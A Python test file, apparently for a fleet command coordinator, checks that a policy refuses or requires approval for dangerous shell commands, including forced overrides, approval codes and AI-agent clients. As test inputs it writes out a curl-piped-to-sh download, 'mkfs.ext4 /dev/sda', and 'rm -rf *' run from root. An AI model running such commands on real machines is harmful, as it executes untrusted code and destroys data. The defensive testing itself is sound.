"""Runs and the policy: in memory, with a real ledger, index and guard, and agents that only note what they are sent."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path
from typing import Any, cast

import msgspec
import pytest
import pytest_twisted
from twisted.internet.defer import Deferred, gatherResults

from clustersh.config import ClientPolicy, PolicyConfig, TargetPolicy
from clustersh.coordinator import open_runs
from clustersh.coordinator.callers import Caller
from clustersh.coordinator.guard import Finding
from clustersh.coordinator.http import Request
from clustersh.coordinator.policy.overrides import GOOD_FOR_S, MAX_ALL, MAX_EACH, Overrides
from clustersh.coordinator.policy.policy import Judge
from clustersh.coordinator.policy.wanted import MAX_COMMAND, MAX_TOLD
from clustersh.coordinator.records import Accepted, PolicyOverridden, RunRefused, RunRequested
from clustersh.coordinator.rest_groups import GroupCalls
from clustersh.coordinator.rest_plans import PlanCalls
from clustersh.trust.identity import Identity, Role
from clustersh.trust.keys import generate
from clustersh.wire.fleet import ChangeGroup, ChangeLabels, DeleteGroup, Pace, Placement, Plan
from clustersh.wire.jobs import MAX_SCRIPT, PROBE, BlobRef, Command
from clustersh.wire.link import Facts, Hello, Start
from clustersh.wire.policy import AllowedRun
from clustersh.wire.problems import Kind, Problem, ProblemError
from clustersh.wire.rest import RunRequest

from .world import ANN, JOSHUA, Agent, JudgeHere, World

FETCHED = "curl http://192.0.2.1/x"
PIPED = f"{FETCHED} | sh"
BLOCKED = RunRequest("ws1", Command(shell=PIPED))
FORCED = msgspec.structs.replace(BLOCKED, force=True)
DENIED = RunRequest("ws1", Command(shell="mkfs.ext4 /dev/sda"))
ADMIN = Identity(Role.ADMIN, "admin-1", "admin-id")
MakeWorld = Callable[..., World]


@pytest.fixture
def make_world(tmp_path: Path) -> Iterator[MakeWorld]:
    made: list[World] = []

    def one(judge: Judge | None = None, **policy: Any) -> World:
        made.append(World(tmp_path, policy=PolicyConfig(**policy), judge=judge))
        return made[-1]

    yield one
    for world in made:
        pytest_twisted.blockon(Deferred.fromCoroutine(world.stop()))


async def fill(world: World, *names: str) -> list[Agent]:
    await world.load()
    agents = []
    for name in names or ("ws1",):
        await world.join(name)
        agents.append(await world.agent(name))
    return agents


async def refused(world: World, asked: RunRequest, client: Identity = JOSHUA, key: str = "") -> Problem:
    with pytest.raises(ProblemError) as caught:
        await world.requests.take(client, key or f"key {len(list(world.ledger.read()))}", asked)
    return caught.value.problem


async def pass_(world: World, asked: RunRequest, client: Identity = JOSHUA) -> str:
    return await world.requests.take(client, f"passes {len(list(world.ledger.read()))}", asked)


def code_in(problem: Problem) -> str:
    return problem.hint.split("clusterd approve ")[1].split()[0]


def _ids(world: World) -> frozenset[str]:
    return frozenset(machine.id for machine in world.registry.machines())


def starts(agents: list[Agent]) -> int:
    return sum(agent.count(Start) for agent in agents)


# -- what is stopped


@pytest_twisted.ensureDeferred
async def test_what_is_stopped_reaches_no_agent_is_recorded_and_stays_refused(make_world: MakeWorld) -> None:
    world = make_world()
    agents = await fill(world)
    problem = await refused(world, DENIED, key="k")
    assert problem.kind is Kind.POLICY
    assert problem.detail.startswith("refused by policy: disk-format: it makes what is on a disk unreadable (mkfs.ext4")
    assert problem.started is False
    assert await refused(world, DENIED, key="k") == problem
    (record,) = cast(list[RunRefused], world.records(RunRefused))
    assert (record.client, record.key, record.problem) == ("joshua@mba", "k", problem)
    assert world.records(RunRequested) == []
    assert starts(agents) == 0
    assert await refused(world, msgspec.structs.replace(DENIED, force=True)), "nothing passes what is denied"


@pytest_twisted.ensureDeferred
async def test_what_only_names_a_dangerous_program_runs(make_world: MakeWorld) -> None:
    world = make_world()
    agents = await fill(world)
    for line in ("last reboot", "echo 'rm -rf /'", "ls -la"):
        await pass_(world, RunRequest("ws1", Command(shell=line)))
    assert starts(agents) == 3
    assert world.records(PolicyOverridden) == []


@pytest_twisted.ensureDeferred
async def test_scripts_and_the_lines_of_checks_are_judged_too(make_world: MakeWorld, tmp_path: Path) -> None:
    world = make_world()
    agents = await fill(world)
    (tmp_path / "script").write_text("echo begin\n" * 256 + PIPED + "\n")
    world.blobs.scripts["a" * 64] = tmp_path / "script"
    for command in (Command(script=BlobRef("a" * 64, 9)), Command(argv=(*PROBE, "--tcp", "22", "--command", PIPED))):
        problem = await refused(world, RunRequest("ws1", command))
        assert "plain-http" in problem.detail
    await pass_(world, RunRequest("ws1", Command(argv=(*PROBE, "--tcp", "--command"))))
    await pass_(world, RunRequest("ws1", Command(script=BlobRef("b" * 64, 9))))
    world.blobs.missing.add("c" * 64)
    missing = RunRequest("ws1", Command(script=BlobRef("c" * 64, 9)))
    assert (await refused(world, missing, key="again")).kind is Kind.UNKNOWN_BLOB
    world.blobs.missing.clear()
    await world.requests.take(JOSHUA, "again", missing)
    assert starts(agents) == 3


@pytest_twisted.ensureDeferred
async def test_what_is_too_large_for_a_script_is_not_read(make_world: MakeWorld, tmp_path: Path) -> None:
    world = make_world()
    agents = await fill(world)
    world.blobs.scripts["a" * 64] = tmp_path / "script"
    asked = RunRequest("ws1", Command(script=BlobRef("a" * 64, 9)))  # its size is but what the client says
    with (tmp_path / "script").open("wb") as file:
        file.truncate(MAX_SCRIPT + 1)
    assert (await refused(world, asked)).kind is Kind.TOO_LARGE
    with pytest.raises(ProblemError, match="at most 16 MiB"):
        await world.policy.test(JOSHUA, asked, world.registry.machines())
    assert starts(agents) == 0


@pytest_twisted.ensureDeferred
async def test_the_directory_counts(make_world: MakeWorld) -> None:
    world = make_world()
    agents = await fill(world)
    clean = RunRequest("ws1", Command(shell="rm -rf *"))
    assert "remove-root" in (await refused(world, msgspec.structs.replace(clean, cwd="/"))).detail
    await pass_(world, msgspec.structs.replace(clean, cwd="/srv/build"))
    assert starts(agents) == 1


@pytest_twisted.ensureDeferred
async def test_what_runs_commands_on_a_machine_counts_too(make_world: MakeWorld) -> None:
    world = make_world()
    await world.load()
    machines = {"a": ("linux", "bash"), "b": ("linux", "powershell"), "c": ("linux", "my-own"), "d": ("linux", "")}
    for name, (system, executor) in (machines | {"e": ("windows", "powershell"), "f": ("windows", "bash")}).items():
        await world.join(name)
        facts = Facts(platform=f"{system}/amd64", executor=executor)
        hello = Hello(version="1", instance="i", store="s", clock=1.0, facts=facts)
        await world.fleet.hello(Agent(world, name).link, hello)

    async def stopped(line: str) -> set[str]:
        tested = await world.policy.test(JOSHUA, RunRequest("all", Command(shell=line)), world.registry.machines())
        assert {each.platform for each in tested.verdicts} == {"linux", "windows"}
        return {name for each in tested.verdicts if each.verdict != "pass" for name in each.machines}

    assert await stopped("Restart-Computer") == {"b", "c", "e", "f"}
    assert await stopped("sudo reboot") == {"a", "b", "c", "d", "f"}


@pytest_twisted.ensureDeferred
async def test_an_unknown_target_is_told_before_the_policy(make_world: MakeWorld) -> None:
    world = make_world(client={"*": ClientPolicy(targets="ws1")})
    await fill(world)
    assert (await refused(world, RunRequest("nobody", DENIED.command))).kind is Kind.UNKNOWN_MACHINE


@pytest_twisted.ensureDeferred
async def test_each_kind_of_machine_is_judged_as_what_it_is(make_world: MakeWorld) -> None:
    world = make_world()
    await world.load()
    for name, platform in (("lin", "linux/amd64"), ("win", "windows/amd64"), ("odd", "plan9/mips")):
        await world.join(name)
        agent = Agent(world, name)
        facts = Facts(platform=platform)
        await world.fleet.hello(agent.link, Hello(version="1", instance="i", store="s", clock=1.0, facts=facts))
    line = Command(shell="Restart-Computer")
    tested = await world.policy.test(JOSHUA, RunRequest("all", line), world.registry.machines())
    told = {each.machines: (each.platform, each.verdict) for each in tested.verdicts}
    assert told == {("lin",): ("linux", "pass"), ("win",): ("windows", "block"), ("odd",): ("", "block")}
    problem = await refused(world, RunRequest("lin,win", line))
    assert problem.hint.startswith("so it is on win, and nothing runs anywhere\n")
    await pass_(world, RunRequest("lin", line))


@pytest_twisted.ensureDeferred
async def test_a_machine_that_says_it_is_another_meanwhile_is_judged_as_what_it_was(make_world: MakeWorld) -> None:
    changes: list[str] = []

    async def come(platform: str) -> None:
        facts = Facts(platform=platform)
        hello = Hello(version="1", instance="i", store="s", clock=1.0, facts=facts)
        await world.fleet.hello(Agent(world, "ws1").link, hello)

    class Changing(JudgeHere):
        async def judge(self, *words: Any, **named: Any) -> tuple[Finding, ...]:
            for platform in changes:
                await come(platform)
            return await super().judge(*words, **named)

    world = make_world(judge=Changing())
    await world.load()
    await world.join("ws1")
    for platform in ("linux/amd64", "windows/amd64"):
        changes.clear()
        await come(platform)
        changes.append("plan9/mips")
        (machines,) = (await world.policy.test(JOSHUA, DENIED, world.registry.machines())).verdicts
        assert machines.platform == platform.partition("/")[0]
    assert (await refused(world, DENIED)).kind is Kind.POLICY


@pytest_twisted.ensureDeferred
async def test_each_command_is_judged_for_the_client_that_asks(make_world: MakeWorld) -> None:
    clients: list[str] = []

    class Noting(JudgeHere):
        async def judge(self, *words: Any, client: str = "", **named: Any) -> tuple[Finding, ...]:
            clients.append(client)
            return await super().judge(*words, **named)

    world = make_world(judge=Noting())
    await fill(world)
    await pass_(world, RunRequest("ws1", Command(shell="true")))
    await world.policy.test(ANN, BLOCKED, world.registry.machines())
    assert clients == [JOSHUA.id, ANN.id]


# -- who may force


@pytest_twisted.ensureDeferred
async def test_a_client_that_may_force_does_so_and_it_is_recorded(make_world: MakeWorld) -> None:
    world = make_world()
    agents = await fill(world)
    problem = await refused(world, BLOCKED)
    assert problem.hint == "if that is meant: the same again with --force"
    uuid = await pass_(world, FORCED)
    (record,) = cast(list[PolicyOverridden], world.records(PolicyOverridden))
    assert record == PolicyOverridden(uuid, "joshua@mba", "client-1", "itself", ("plain-http",))
    assert starts(agents) == 1


@pytest.mark.parametrize(
    "policy",
    [
        {"force": "never"},
        {"client": {"joshua@*": ClientPolicy(force="never")}},
        {"target": {"ws*": TargetPolicy(force="never")}},
        {"rules": {"plain-http": "deny"}},
        {"client": {"joshua@mba": ClientPolicy(rules={"plain-http": "deny"})}},
        {"target": {"ws1": TargetPolicy(rules={"plain-http": "deny"})}},
    ],
)
@pytest_twisted.ensureDeferred
async def test_what_may_not_be_forced_does_not_pass(make_world: MakeWorld, policy: dict[str, Any]) -> None:
    world = make_world(**policy)
    agents = await fill(world)
    assert (await refused(world, FORCED)).kind is Kind.POLICY
    assert starts(agents) == 0


@pytest.mark.parametrize(
    "policy",
    [
        {"rules": {"plain-http": "allow"}},
        {"client": {"joshua@mba": ClientPolicy(rules={"plain-http": "allow"})}},
        {"rules": {"plain-http": "deny"}, "target": {"ws1": TargetPolicy(rules={"plain-http": "allow"})}},
    ],
)
@pytest_twisted.ensureDeferred
async def test_what_is_allowed_needs_no_force(make_world: MakeWorld, policy: dict[str, Any]) -> None:
    world = make_world(**policy)
    agents = await fill(world)
    await pass_(world, BLOCKED)
    assert starts(agents) == 1
    assert world.records(PolicyOverridden) == []


@pytest_twisted.ensureDeferred
async def test_an_approval_lets_exactly_that_run_pass_once(make_world: MakeWorld) -> None:
    world = make_world(force="approve")
    agents = await fill(world, "ws1", "ws2")
    first = await refused(world, FORCED, key="mine")
    code = code_in(first)
    assert len(code) == 8 and int(code, 16) >= 0
    assert f"on box: clusterd approve {code} (10 minutes)" in first.hint
    assert code_in(await refused(world, BLOCKED, key="other")) == code, "the same run has the same code"
    (record,) = cast(list[RunRefused], world.records(RunRefused))
    assert code not in msgspec.json.encode(record).decode(), "no code is kept"
    (waiting,) = world.overrides.pending()
    assert waiting.what == f"{PIPED} on ws1" and code not in str(waiting)

    (override,) = world.overrides.with_code(code)
    allowed = world.overrides.approve(override, "admin-1")
    assert allowed == AllowedRun("joshua@mba", "ws1", ("ws1",), 1, PIPED, ("plain-http",), (FETCHED,))
    for other in (
        msgspec.structs.replace(FORCED, command=Command(shell=PIPED + " ")),
        msgspec.structs.replace(FORCED, target="ws2"),
        msgspec.structs.replace(FORCED, target="ws1,ws2"),
        msgspec.structs.replace(FORCED, cwd="/tmp"),
        msgspec.structs.replace(FORCED, env={"A": "b"}),
        msgspec.structs.replace(FORCED, stdin=True),
    ):
        assert code_in(await refused(world, other)) != code
    assert code_in(await refused(world, FORCED, ANN)) != code, "it is one client's"
    assert "an admin has allowed it" in (await refused(world, BLOCKED)).hint
    assert starts(agents) == 0
    assert world.overrides.pending() != []

    uuid = await world.requests.take(JOSHUA, "mine", FORCED)
    (overridden,) = cast(list[PolicyOverridden], world.records(PolicyOverridden))
    assert overridden == PolicyOverridden(uuid, "joshua@mba", "client-1", "admin-1", ("plain-http",))
    assert await world.requests.take(JOSHUA, "mine", FORCED) == uuid, "the same key is the same run"
    assert code_in(await refused(world, FORCED, key="again")) != code, "once"
    assert world.overrides.with_code(code) == []
    assert starts(agents) == 1


@pytest_twisted.ensureDeferred
async def test_of_two_that_come_together_one_uses_the_approval(make_world: MakeWorld) -> None:
    world = make_world(force="approve")
    agents = await fill(world)
    world.overrides.approve(world.overrides.with_code(code_in(await refused(world, FORCED)))[0], "admin-1")
    both = [Deferred.fromCoroutine(world.requests.take(JOSHUA, key, FORCED)) for key in ("one", "two")]
    results = await gatherResults([each.addErrback(lambda failure: failure.value) for each in both])
    assert sorted(isinstance(each, ProblemError) for each in results) == [False, True]
    assert starts(agents) == 1


@pytest_twisted.ensureDeferred
async def test_an_approval_whose_run_could_not_be_recorded_is_good_still(
    make_world: MakeWorld, monkeypatch: pytest.MonkeyPatch
) -> None:
    world = make_world(force="approve")
    agents = await fill(world)
    world.overrides.approve(world.overrides.with_code(code_in(await refused(world, FORCED)))[0], "admin-1")
    full = ProblemError(Kind.STORAGE, "the disk is full")
    before: list[Any] = []

    async def hold(script: str, manifest: str) -> frozenset[str]:
        before.append(world.overrides.find(JOSHUA, world.policy._digest(JOSHUA, FORCED), _ids(world)))
        raise full

    with monkeypatch.context() as patched:
        patched.setattr(world.blobs, "hold", hold)
        assert (await refused(world, FORCED)).kind is Kind.STORAGE
    assert before == [None], "it was taken while the run was on its way"
    assert starts(agents) == 0
    await pass_(world, FORCED)
    assert starts(agents) == 1
    assert (await refused(world, FORCED)).kind is Kind.POLICY, "once"


@pytest_twisted.ensureDeferred
async def test_an_approval_that_comes_back_allows_what_was_asked_for_meanwhile(make_world: MakeWorld) -> None:
    world = make_world(force="approve")
    agents = await fill(world)
    (first,) = world.overrides.with_code(code_in(await refused(world, FORCED)))
    world.overrides.approve(first, "admin-1")
    world.overrides.take(first)
    code = code_in(await refused(world, FORCED))
    world.overrides.give_back(first)
    (second,) = world.overrides.with_code(code)
    assert second.approver == "admin-1"
    await pass_(world, FORCED)
    assert (await refused(world, FORCED)).kind is Kind.POLICY
    assert starts(agents) == 1


@pytest_twisted.ensureDeferred
async def test_what_is_placed_is_approved_for_the_machine_that_was_chosen_and_runs_there(make_world: MakeWorld) -> None:
    world = make_world(force="approve")
    agents = await fill(world, "a", "b", "c")
    placed = msgspec.structs.replace(FORCED, target="all", placement=Placement(raw=True))
    for machine in world.registry.machines():
        world.registry.used(machine.id)
    first = code_in(await refused(world, placed))
    for _ in range(4):
        assert code_in(await refused(world, placed)) == first, "the choice stands, though others had less to do"
    (override,) = world.overrides.with_code(first)
    (name,) = override.run.machines
    world.overrides.approve(override, "admin-1")
    run = world.runs.find(await pass_(world, placed))
    assert run is not None
    assert [job.machine.name for job in run.jobs.values()] == [name]
    assert run.selected == (f"Selected {name}: an approval is for it",)
    again = await refused(world, placed)
    assert code_in(again) != first, "once"
    (override,) = world.overrides.with_code(code_in(again))
    world.overrides.approve(override, "admin-1")
    (gone,) = override.run.machines
    next(agent for agent in agents if agent.key.name == gone).go()
    other = await refused(world, placed)
    assert code_in(other) != override.code, "it is for a machine that can't be chosen now"
    assert starts(agents) == 1


@pytest_twisted.ensureDeferred
async def test_an_approval_is_for_the_machines_that_the_target_meant(make_world: MakeWorld) -> None:
    world = make_world(force="approve")
    agents = await fill(world, "ws1", "ws2")
    group = msgspec.structs.replace(FORCED, target="@lab")
    await world.groups.add("lab", (world.registry.machine("ws1"),), ADMIN)
    world.overrides.approve(world.overrides.with_code(code_in(await refused(world, group)))[0], "admin-1")
    await world.groups.add("lab", (world.registry.machine("ws2"),), ADMIN)
    assert (await refused(world, group)).kind is Kind.POLICY, "one more machine than was allowed"
    await world.groups.remove("lab", (world.registry.machine("ws2"),), ADMIN)
    await pass_(world, group)
    assert starts(agents) == 1


@pytest_twisted.ensureDeferred
async def test_codes_and_approvals_end_after_ten_minutes(make_world: MakeWorld) -> None:
    world = make_world(force="approve")
    agents = await fill(world)
    code = code_in(await refused(world, FORCED))
    world.clock.advance(GOOD_FOR_S - 1)
    assert world.overrides.with_code(code) != []
    assert "(1 minute)" in (await refused(world, FORCED)).hint
    world.clock.advance(1)
    assert world.overrides.with_code(code) == []
    (override,) = world.overrides.with_code(code_in(await refused(world, FORCED)))
    world.overrides.approve(override, "admin-1")
    world.clock.advance(GOOD_FOR_S)
    assert (await refused(world, FORCED)).kind is Kind.POLICY
    assert starts(agents) == 0


@pytest_twisted.ensureDeferred
async def test_runs_that_wait_are_few_and_a_clients_that_is_revoked_are_gone(make_world: MakeWorld) -> None:
    world = make_world(force="approve")
    await fill(world)
    for number in range(MAX_EACH):
        await refused(world, msgspec.structs.replace(FORCED, cwd=f"/{number}"))
    recorded = len(list(world.ledger.read()))
    problem = await refused(world, msgspec.structs.replace(FORCED, cwd="/more"), key="later")
    assert problem.kind is Kind.RATE_LIMITED
    assert len(list(world.ledger.read())) == recorded
    await world.requests.take(JOSHUA, "later", RunRequest("ws1", Command(shell="ls")))
    assert code_in(await refused(world, FORCED, ANN))
    assert len(world.overrides.pending()) == MAX_EACH + 1
    world.overrides.forget_client(JOSHUA.id)
    assert [each.name for each in world.overrides.pending()] == ["ann@desk"]


def test_all_clients_together_have_so_many_and_never_two_with_one_code(make_world: MakeWorld) -> None:
    world = make_world()
    random = iter([b"aaaa", b"aaaa", *(number.to_bytes(4, "big") for number in range(MAX_ALL))])
    overrides = Overrides(world.clock, lambda count: next(random))
    run = AllowedRun("", "", (), 0, "", ())
    clients = (Identity(Role.FRONTEND, f"c{number}", f"c{number}") for number in (1, 2))
    first, second = (overrides.ask(client, "digest", frozenset(), run) for client in clients)
    assert first.code == b"aaaa".hex() != second.code
    for number in range(3, MAX_ALL + 1):
        overrides.ask(Identity(Role.FRONTEND, f"c{number}", f"c{number}"), "digest", frozenset(), run)
    with pytest.raises(ProblemError, match="too many runs wait"):
        overrides.ask(Identity(Role.FRONTEND, "more", "more"), "digest", frozenset(), run)


@pytest_twisted.ensureDeferred
async def test_an_ai_agents_client_is_approved_unless_the_policy_speaks_of_it(make_world: MakeWorld) -> None:
    for name, policy, expected in (
        ("ai-1@ci", {}, "approve"),
        ("ai-2@ci", {"force": "never"}, "never"),
        ("ai-3@ci", {"target": {"ws1": TargetPolicy(force="self")}}, "approve"),
        ("ai-4@ci", {"client": {"ai-4@ci": ClientPolicy(force="self"), "ai-*": ClientPolicy(force="never")}}, "self"),
        ("ai-5@ci", {"client": {"ai-*": ClientPolicy(force="never"), "*": ClientPolicy(force="self")}}, "never"),
    ):
        world = make_world(**cast(dict[str, Any], policy))
        await world.load()
        if not world.registry.machines():
            await world.join("ws1")
        await world.registry.register(Role.FRONTEND, name, generate().public_key(), name, "", "admin", ai=True)
        (key,) = [each for each in world.registry.clients() if each.name == name]
        client = Identity(Role.FRONTEND, name, key.id)
        assert world.registry.is_ai(client) and not world.registry.is_ai(JOSHUA)
        tested = await world.policy.test(client, FORCED, world.registry.machines())
        assert (name, tested.force) == (name, expected)
        assert world.policy.view(client).ai
        await world.stop()


@pytest_twisted.ensureDeferred
async def test_that_a_client_is_an_ai_agents_outlives_restart_and_renaming(make_world: MakeWorld) -> None:
    world = make_world()
    await world.load()
    key = generate().public_key()
    await world.registry.register(Role.FRONTEND, "ai@ci", key, "f", "", "admin", ai=True)
    await world.registry.register(Role.FRONTEND, "bob@ci", key, "f", "", "admin")
    assert [(each.name, each.ai) for each in world.registry.clients()] == [("bob@ci", True)]
    await world.settled()
    await world.stop()
    after = make_world()
    await after.load()
    assert [(each.name, each.ai) for each in after.registry.clients()] == [("bob@ci", True)]


@pytest_twisted.ensureDeferred
async def test_that_a_client_is_an_ai_agents_stays_with_its_name_under_a_new_key(make_world: MakeWorld) -> None:
    world = make_world()
    await world.load()

    async def register(name: str, fingerprint: str, *, ai: bool = False) -> bool:
        await world.registry.register(Role.FRONTEND, name, generate().public_key(), fingerprint, "", "admin", ai=ai)
        (key,) = [each for each in world.registry.clients() if each.name == name and not each.ended]
        return world.registry.is_ai(Identity(Role.FRONTEND, name, key.id))

    assert await register("ai@ci", "one", ai=True)
    assert world.registry.is_ais(Role.FRONTEND, "ai@ci", "two"), "which an admin is told before and after"
    assert world.registry.is_ais(Role.FRONTEND, "bob@ci", "one")
    assert not world.registry.is_ais(Role.FRONTEND, "bob@ci", "two")
    await world.registry.revoke("ai@ci")
    assert await register("ai@ci", "two"), "it left and came again, and nobody said --ai"
    (key,) = [each for each in world.registry.clients() if each.fingerprint == "two"]
    await world.registry.leave(Identity(Role.FRONTEND, "ai@ci", key.id))
    await world.settled()
    await world.stop()
    world = make_world()
    await world.load()
    assert await register("ai@ci", "three")
    assert not await register("bob@ci", "four")


# -- limits


@pytest_twisted.ensureDeferred
async def test_a_client_runs_only_on_its_targets(make_world: MakeWorld) -> None:
    world = make_world(client={"joshua@*": ClientPolicy(targets="@lab,!db1"), "*": ClientPolicy(targets="all!ws3")})
    agents = await fill(world, "ws1", "ws2", "ws3", "db1")
    problem = await refused(world, RunRequest("ws1", Command(shell="true")))
    assert problem.detail == "refused by policy: joshua@mba may run on @lab,!db1 only, not on ws1"
    assert problem.hint.startswith("it names @lab, db1") or "@lab, which is nothing here now" in problem.hint
    lab = tuple(world.registry.machine(name) for name in ("ws1", "ws3", "db1"))
    await world.groups.add("lab", lab, ADMIN)
    await pass_(world, RunRequest("ws1", Command(shell="true")))
    for target in ("ws2", "db1", "ws3", "@lab", "all", "ws1,db1"):
        assert (await refused(world, RunRequest(target, Command(shell="true")))).kind is Kind.POLICY, target
    assert starts(agents) == 1


@pytest_twisted.ensureDeferred
async def test_what_a_policy_names_may_be_gone_and_the_rest_holds(make_world: MakeWorld) -> None:
    world = make_world(target={"gone,ws1,@nobody,x*": TargetPolicy(rules={"plain-http": "deny"})})
    await fill(world)
    assert "plain-http" in (await refused(world, FORCED)).detail
    assert world.policy.view(JOSHUA).unknown == ("gone", "x*", "@nobody")
    assert world.policy.view(JOSHUA).on[0].machines == ("ws1",)


@pytest_twisted.ensureDeferred
async def test_a_client_has_so_many_machines_at_once(make_world: MakeWorld) -> None:
    world = make_world(client={"joshua@mba": ClientPolicy(machines_at_once=2)})
    agents = await fill(world, "a", "b", "c", "d")
    true = Command(shell="true")
    assert (await refused(world, RunRequest("a,b,c", true))).kind is Kind.POLICY
    paced = await world.requests.take(JOSHUA, "paced", RunRequest("all", true, pace=Pace("2", canary=1)))
    problem = await refused(world, RunRequest("a", true))
    assert (problem.kind, problem.detail) == (
        Kind.RATE_LIMITED,
        "joshua@mba may use 2 machines at once: 2 are busy, and this needs 1",
    )
    assert world.policy.view(JOSHUA).under_way == 2
    await world.requests.take(ANN, "ann", RunRequest("all", true))
    await world.runs.cancel(JOSHUA, paced)
    for agent in agents:
        agent.ended(paced)
    await world.over(paced)
    assert world.policy.view(JOSHUA).under_way == 0
    both = [Deferred.fromCoroutine(world.requests.take(JOSHUA, key, RunRequest("a,b", true))) for key in "xy"]
    results = await gatherResults([each.addErrback(lambda failure: failure.value) for each in both])
    assert sorted(isinstance(each, ProblemError) for each in results) == [False, True], "they came together"
    uuid = next(each for each in results if isinstance(each, str))
    agents[0].ended(uuid)
    agents[1].ended(uuid)
    await world.over(uuid)
    await pass_(world, RunRequest("a,b", true))


@pytest_twisted.ensureDeferred
async def test_a_client_starts_so_many_jobs_a_minute(make_world: MakeWorld) -> None:
    world = make_world(client={"joshua@mba": ClientPolicy(jobs_per_minute=6)})
    agents = await fill(world, "a", "b")
    both = RunRequest("a,b", Command(shell="true"))
    for _ in range(3):
        await pass_(world, both)
    problem = await refused(world, both, key="later")
    assert problem.kind is Kind.RATE_LIMITED
    assert problem.hint == "again in 21 s"
    assert world.records(RunRefused) == [], "it may be asked again under that key"
    await pass_(world, both, ANN)
    world.clock.advance(21)
    await world.requests.take(JOSHUA, "later", both)
    assert (await refused(world, both)).kind is Kind.RATE_LIMITED
    assert starts(agents) == 10


@pytest_twisted.ensureDeferred
async def test_a_run_that_is_not_now_keeps_its_approval(make_world: MakeWorld) -> None:
    world = make_world(force="approve", client={"*": ClientPolicy(jobs_per_minute=1)})
    agents = await fill(world)
    world.overrides.approve(world.overrides.with_code(code_in(await refused(world, FORCED)))[0], "admin-1")
    await pass_(world, RunRequest("ws1", Command(shell="true")))
    assert (await refused(world, FORCED)).kind is Kind.RATE_LIMITED
    world.clock.advance(60)
    await pass_(world, FORCED)
    assert starts(agents) == 2


# -- groups, and what is only asked


class Waiting:
    async def unless_gone(self, work: Any) -> Any:
        return await work


@pytest_twisted.ensureDeferred
async def test_groups_and_labels_that_the_policy_names_are_an_admins(make_world: MakeWorld) -> None:
    world = make_world(
        client={"*": ClientPolicy(targets="@lab[1-2],!@tier:prod,@os:linux")}, target={"@web": TargetPolicy()}
    )
    await fill(world)
    calls: GroupCalls = world.targeting.calls(world.policy)
    request = cast(Request, Waiting())
    joshua, admin = Caller(JOSHUA, "", ""), Caller(ADMIN, "", "")
    change = ChangeGroup("ws1")
    for group in ("lab1", "LAB2", "@web"):
        for attempt in (calls.add(request, joshua, group, change), calls.remove(request, joshua, group, change)):
            with pytest.raises(ProblemError, match="so only an admin changes it") as caught:
                await attempt
            assert caught.value.problem.kind is Kind.POLICY
        with pytest.raises(ProblemError, match="so only an admin changes it"):
            await calls.delete(request, joshua, group, DeleteGroup())
    for value in ("prod", None):
        with pytest.raises(ProblemError, match="the label tier is in the policy"):
            await calls.label(request, joshua, ChangeLabels("ws1", {"other": "x", "Tier": value}))
    assert (await calls.add(request, joshua, "lab3", change)).changed == ("ws1",)
    assert (await calls.label(request, joshua, ChangeLabels("ws1", {"other": "x"}))).changed == ("ws1",)
    assert (await calls.add(request, admin, "lab1", change)).changed == ("ws1",)
    assert (await calls.label(request, admin, ChangeLabels("ws1", {"tier": "prod"}))).changed == ("ws1",)


@pytest_twisted.ensureDeferred
async def test_a_client_takes_no_new_machine_into_use_that_it_may_run_nothing_on(make_world: MakeWorld) -> None:
    world = make_world(client={"*": ClientPolicy(targets="ws*"), "ann@desk": ClientPolicy()})
    await fill(world, "ws1", "ws2", *(f"nas{number}" for number in range(6)))
    world.targets.new_wait = True
    calls: GroupCalls = world.targeting.calls(world.policy)
    request = cast(Request, Waiting())
    joshua, ann, admin = (Caller(each, "", "") for each in (JOSHUA, ANN, ADMIN))
    assert (await calls.add(request, joshua, "mine", ChangeGroup("ws1,nas0,nas1"))).changed == ("ws1", "nas0", "nas1")
    await calls.label(request, joshua, ChangeLabels("ws2,nas2", {"gpu": "yes"}))
    new = {machine.name for machine in world.registry.machines() if machine.new}
    assert new == {f"nas{number}" for number in range(6)}
    assert [machine.name for machine in world.targets.resolve("@mine,@gpu:yes").machines] == ["ws1", "ws2"]
    await calls.add(request, ann, "mine", ChangeGroup("nas3"))
    await calls.label(request, ann, ChangeLabels("nas2", {"gpu": "yes"}))
    await calls.add(request, admin, "mine", ChangeGroup("nas4"))
    await calls.label(request, admin, ChangeLabels("nas5", {"gpu": "yes"}))
    taken = [(record.machine, record.client) for record in cast(list[Accepted], world.records(Accepted))]
    assert taken == [
        *(("ws1", "joshua@mba"), ("ws2", "joshua@mba"), ("nas3", "ann@desk"), ("nas2", "ann@desk")),
        *(("nas4", ADMIN.name), ("nas5", ADMIN.name)),
    ]


async def planned(world: World, asked: RunRequest, client: Identity = JOSHUA) -> Plan:
    calls = PlanCalls(world.requests, world.fleet, world.policy, world.table)
    return await calls.plan(cast(Request, Waiting()), Caller(client, "", ""), asked)


@pytest_twisted.ensureDeferred
async def test_asking_touches_nothing_and_tells_what_would_come(make_world: MakeWorld) -> None:
    world = make_world(force="approve", client={"ann@desk": ClientPolicy(targets="nobody")})
    agents = await fill(world)
    before = list(world.ledger.read())
    machines = world.registry.machines()
    plan = partial(planned, world)

    for asked, force in ((BLOCKED, "approve"), (FORCED, "approve"), (DENIED, "never")):
        tested = await world.policy.test(JOSHUA, asked, machines)
        assert (tested.passes, tested.force) == (False, force)
        told = await plan(asked)
        assert (told.problem, told.verdicts, told.force) == (tested.problem, tested.verdicts, force)
        assert not told.would_start and [machine.name for machine in told.machines] == ["ws1"]
        assert told.problem is not None and told.problem.kind is Kind.POLICY
        assert "clusterd approve" not in told.problem.hint
        assert ("run it, which asks for an approval" in told.problem.hint) == (force == "approve")
    harmless = RunRequest("ws1", Command(shell="true"))
    assert (await world.policy.test(JOSHUA, harmless, machines)).passes
    passes = await plan(harmless)
    assert (passes.would_start, passes.force, [each.verdict for each in passes.verdicts]) == (True, "", ["pass"])
    limited = await world.policy.test(ANN, harmless, machines)
    assert limited.problem is not None and "may run on nobody only" in limited.problem.detail
    told = await plan(harmless, ANN)
    assert (told.problem, [machine.name for machine in told.machines]) == (limited.problem, ["ws1"])
    assert list(world.ledger.read()) == before
    assert world.overrides.pending() == []
    assert starts(agents) == 0
    code = code_in(await refused(world, FORCED))
    world.overrides.approve(world.overrides.with_code(code)[0], "admin-1")
    allowed = await plan(FORCED)
    assert (allowed.would_start, allowed.force, allowed.verdicts[0].rule) == (True, "approve", "plain-http")
    told = await plan(BLOCKED)
    assert told.problem is not None and "an admin has allowed it, once" in told.problem.hint
    await pass_(world, FORCED)


@pytest_twisted.ensureDeferred
async def test_a_plan_judges_a_script_and_says_where_it_can_not(make_world: MakeWorld, tmp_path: Path) -> None:
